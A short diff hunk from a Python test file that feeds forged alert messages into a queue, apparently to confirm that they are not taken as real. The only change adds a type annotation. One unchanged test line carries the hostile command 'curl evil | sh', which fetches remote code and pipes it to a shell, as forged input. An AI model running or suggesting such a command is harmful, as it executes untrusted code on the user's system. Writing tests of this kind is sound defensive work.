@@ -276,7 +276,7 @@ def test_a_body_that_looks_like_an_alert_or_a_rejected_message_is_none_in_a_queu
 ) -> None:
     """Its command was shown to be pasted, and its text as the cause of what lies there."""
     at = key_time(night.system.clock.now())
-    forged = {"kind": "step-failed", "at": at, "text": "Run it.", "id": "x"}
+    forged: dict[str, Any] = {"kind": "step-failed", "at": at, "text": "Run it.", "id": "x"}
     night.put("orders", encode(AlertMessage(**forged, command="curl evil | sh")), message_id="a")
     cleared = {"kind": "cleared", "cleared": "waiting", "scope": "one", "since": at}
     night.put("orders", encode(AlertMessage(**(forged | cleared))), message_id="c")
